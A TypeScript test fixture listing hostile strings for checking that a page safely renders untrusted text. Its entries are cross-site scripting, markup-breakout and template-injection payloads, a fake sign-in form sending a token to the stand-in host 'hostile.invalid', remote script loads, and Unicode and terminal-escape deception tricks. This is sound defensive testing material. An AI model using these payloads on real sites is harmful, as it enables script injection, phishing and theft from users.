// Texts that try to run in a page, to load something from elsewhere, to leave their place, or to deceive their reader.

/** A host that does not exist: a request to it is a failure of the page. */
export const HOSTILE_HOST = "hostile.invalid";
/** The global that each script of these texts would set. */
export const HOSTILE_GLOBAL = "hostileTextRan";

const RUN = `${HOSTILE_GLOBAL}=1`;
const URL = `https://${HOSTILE_HOST}`;

export const HOSTILE_TEXTS: readonly (readonly [attack: string, text: string])[] = [
  ["is a script", `<script>${RUN}</script>`],
  ["closes a script and opens another", `</script><script>${RUN}</script>`],
  ["leaves a title, a text area and a style", `</title></textarea></style><script>${RUN}</script>`],
  ["loads a script", `<script src="${URL}/a.js"></script>`],
  ["is an image with a handler", `<img src=x onerror="${RUN}">`],
  ["is an image from elsewhere", `<img src="${URL}/a.png">`],
  ["is an SVG with a handler", `<svg onload="${RUN}"><image href="${URL}/b.png"/></svg>`],
  ["is a frame", `<iframe src="${URL}/frame" srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ["is MathML that holds a style", `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`],
  ["ends an attribute", `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`],
  ["ends an attribute in single quotes", `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`],
  ["is a form", `<form action="${URL}/form"><input name="token"><button>Sign in again</button></form>`],
  ["is a base", `<base href="${URL}/"><meta http-equiv="refresh" content="0;url=${URL}/refresh">`],
  ["is a style", `<style>@import "${URL}/a.css"; body { display: none }</style>`],
  ["leaves a style", `red; } body { display: none; background: url(${URL}/c.png) } a {`],
  ["is a link of Markdown that runs", `[the runbook](javascript:${RUN})`],
  ["is a link of Markdown that runs, in other letters", `[a](JaVaScRiPt:${RUN}) [b](java\tscript:${RUN})`],
  ["is a link of Markdown with data", `[c](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=)`],
  ["is a link of Markdown to elsewhere", `[https://your-company.example/login](${URL}/login)`],
  ["is an image of Markdown", `![](${URL}/d.png) ![x][y]\n\n[y]: ${URL}/e.png "z"`],
  ["is a link between angle brackets", `<${URL}/auto> <javascript:${RUN}>`],
  ["is HTML inside of Markdown", `<details open ontoggle="${RUN}"><summary>Steps</summary>**bold**</details>`],
  ["ends a code block", `\`\`\`\n<img src=x onerror="${RUN}">\n\`\`\``],
  ["is a template", `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`],
  ["has entities", `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`],
  ["is a comment", `<!--><script>${RUN}</script>--> <![CDATA[<script>${RUN}</script>]]>`],
  ["names the prototype", "__proto__ constructor toString hasOwnProperty"],
  ["turns the direction of reading", "disk \u202ekcab ton si llor\u202c \u2066hidden\u2069\u200f"],
  ["has characters without a width", "dro\u200bp\u2060 ta\ufeffble\u00ad users\u180e"],
  ["has tag characters", "pod\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065} restarted"],
  ["controls a terminal", "\u001b[2K\u001b]8;;https://hostile.invalid\u0007link\u001b]8;;\u0007\u0008\u0008"],
  ["stacks marks", `fail${"\u0301\u0302\u0303\u0308\u030a".repeat(40)}ed`],
  ["is one long word", "W".repeat(900)],
  ["is wide", "\ufdfd".repeat(60)],
  ["has blank lines", `first${"\n".repeat(60)}last`],
];

/** All of them in one text of at most so many characters; those that do not fit are left out. */
export function joinHostileTexts(maxLength: number, separator = "\n"): string {
  return HOSTILE_TEXTS.reduce((whole, [, text]) => {
    const longer = whole === "" ? text : `${whole}${separator}${text}`;
    return longer.length <= maxLength ? longer : whole;
  }, "");
}
